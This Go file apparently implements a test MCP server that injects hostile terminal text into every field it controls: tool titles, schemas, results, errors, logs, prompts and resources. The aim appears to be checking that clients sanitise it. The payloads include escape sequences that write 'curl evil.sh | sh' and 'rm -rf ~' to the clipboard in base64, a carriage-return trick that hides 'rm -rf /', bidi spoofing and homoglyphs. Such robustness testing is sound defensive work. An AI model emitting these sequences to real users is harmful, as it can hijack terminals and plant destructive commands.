package faults

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"

	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// hostile is text that a terminal, or a reader, would take for something else.
var hostile = map[string]string{
	"sgr":        "\x1b[31;1;5mRED\x1b[0m",
	"clear":      "\x1b[2J\x1b[H\x1b[3J",
	"cursor":     "\x1b[10A\x1b[999D\x1b[K",
	"alternate":  "\x1b[?1049h\x1b[?25l",
	"mouse":      "\x1b[?1000h\x1b[?1006h\x1b[?2004h",
	"title":      "\x1b]0;pwned\x07",
	"link":       "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
	"clipboard":  "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
	"clipboard2": "\x1b]52;c;cm0gLXJmIH4=\x1b\\",
	"query":      "\x1b[6n\x1b[c\x1b[>c\x1b[5n",
	"dcs":        "\x1bP$qm\x1b\\",
	"sixel":      "\x1bPq#0;2;0;0;0#0~~@@vv@@~~$\x1b\\",
	"apc":        "\x1b_Gf=24,s=1,v=1;////\x1b\\",
	"c1":         "\u009b31mC1\u009b0m \u009d52;c;eA==\u009c",
	"reset":      "\x1bc",
	"charset":    "\x1b(0lqqk\x1b(B",
	"return":     "safe: rm -rf /\rsafe: ls       ",
	"backspace":  "rm\b\bls",
	"nul":        "a\x00b",
	"bell":       "ding\x07",
	"bidi":       "user\u202egnp.exe\u202c \u2066\u2067x\u2069",
	"invisible":  "ad\u200bmin\u200d\u2060\ufeff",
	"tags":       "hi\U000E0041\U000E0042",
	"homoglyph":  "p\u0430ypal (one letter is Cyrillic)",
	"combining":  "Z" + strings.Repeat("\u0301", 200),
	"wide":       "漢字🇪🇺👩‍👩‍👧‍👦ﷺ",
	"tab":        "a\tb",
	"lines":      "line1\nline2\r\nline3\u2028ls\u2029ps\u0085nel",
	"del":        "\x7f",
	"unfinished": "\x1b[",
}

func hostileKinds() []string {
	names := make([]string, 0, len(hostile))
	for name := range hostile {
		names = append(names, name)
	}
	slices.Sort(names)
	return names
}

// everything is all hostile text, each piece between its name.
func everything() string {
	var b strings.Builder
	for _, name := range hostileKinds() {
		fmt.Fprintf(&b, "[%s] %s [/%s]\n", name, hostile[name], name)
	}
	return b.String()
}

// nasty is short enough for titles and labels.
func nasty() string {
	return hostile["clear"] + hostile["clipboard"] + hostile["title"] + hostile["sgr"]
}

// addHostile puts hostile text wherever a server has a word in: titles,
// descriptions, schemas, results, errors, progress, logs, asks, prompts and
// resources.
func (s *server) addHostile() {
	all, bad := everything(), nasty()
	schema := must(map[string]any{
		"type": "object",
		"properties": map[string]any{
			"kind": map[string]any{"type": "string", "enum": append([]string{"all"}, hostileKinds()...), "default": "all"},
			"field" + hostile["sgr"]: map[string]any{
				"type": "string", "title": hostile["clipboard2"], "description": all, "default": hostile["clear"],
			},
		},
	})
	s.mcp.AddTool(&mcp.Tool{
		Name: "hostile_text", Title: "Hostile text " + bad, Description: "Answers with text made to take over a terminal.\n" + all,
		InputSchema: schema, Annotations: &mcp.ToolAnnotations{Title: bad},
	}, func(ctx context.Context, r *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
		e, args := entry{req: r}, struct{ Kind string }{"all"}
		if err := e.arguments(&args); err != nil {
			return nil, err
		}
		says, ok := hostile[args.Kind]
		if !ok {
			says = all
		}
		if token := r.Params.GetProgressToken(); token != nil {
			if err := r.Session.NotifyProgress(ctx, &mcp.ProgressNotificationParams{ProgressToken: token, Progress: 1, Total: 2, Message: says}); err != nil {
				return nil, err
			}
		}
		if err := r.Session.Log(ctx, &mcp.LoggingMessageParams{Level: "info", Logger: bad, Data: says}); err != nil {
			return nil, err
		}
		return &mcp.CallToolResult{
			Meta: mcp.Meta{"example.com/hostile": says},
			Content: []mcp.Content{
				&mcp.TextContent{Text: says},
				&mcp.ResourceLink{URI: "https://good.example/" + hostile["return"], Name: bad, MIMEType: bad},
			},
			StructuredContent: map[string]any{bad: says},
		}, nil
	})
	s.tool("hostile_error", "Fails with a message made to take over a terminal.", "", func(context.Context, entry) (*mcp.CallToolResult, error) {
		return nil, &jsonrpc.Error{Code: jsonrpc.CodeInvalidParams, Message: "boom " + all, Data: must(map[string]any{bad: bad})}
	})
	ask := &mcp.ElicitParams{Mode: "form", Message: all, RequestedSchema: must(map[string]any{
		"type": "object",
		"properties": map[string]any{
			"f" + hostile["sgr"]: map[string]any{"type": "string", "title": bad, "description": all},
			"pick":               map[string]any{"type": "string", "title": hostile["bidi"], "enum": []string{hostile["bidi"], hostile["link"]}},
		},
	})}
	s.tool("hostile_ask", "Asks with labels made to take over a terminal.", "", func(ctx context.Context, e entry) (*mcp.CallToolResult, error) {
		if e.modern {
			if e.state != "" {
				return text("%d answers came back.", len(e.answers)), nil
			}
			return asks(mcp.InputRequestMap{"k" + bad: ask}, bad), nil
		}
		if _, err := e.req.Session.Elicit(ctx, ask); err != nil {
			return nil, err
		}
		return text("1 answer came back."), nil
	})
	s.mcp.AddPrompt(&mcp.Prompt{
		Name: "hostile" + hostile["sgr"], Title: hostile["bidi"], Description: all,
		Arguments: []*mcp.PromptArgument{{Name: "a" + hostile["cursor"], Description: hostile["query"]}},
	}, func(context.Context, *mcp.GetPromptRequest) (*mcp.GetPromptResult, error) {
		return &mcp.GetPromptResult{Description: bad, Messages: []*mcp.PromptMessage{{Role: "user", Content: &mcp.TextContent{Text: all}}}}, nil
	})
	s.mcp.AddResource(&mcp.Resource{
		URI: "faults://hostile", Name: "hostile" + hostile["clipboard"], Title: bad, MIMEType: "text/plain", Description: all,
	}, func(_ context.Context, r *mcp.ReadResourceRequest) (*mcp.ReadResourceResult, error) {
		return &mcp.ReadResourceResult{Contents: []*mcp.ResourceContents{{URI: r.Params.URI, MIMEType: "text/plain", Text: all}}}, nil
	})
}

func must(v any) json.RawMessage {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // text of this file
	}
	return b
}
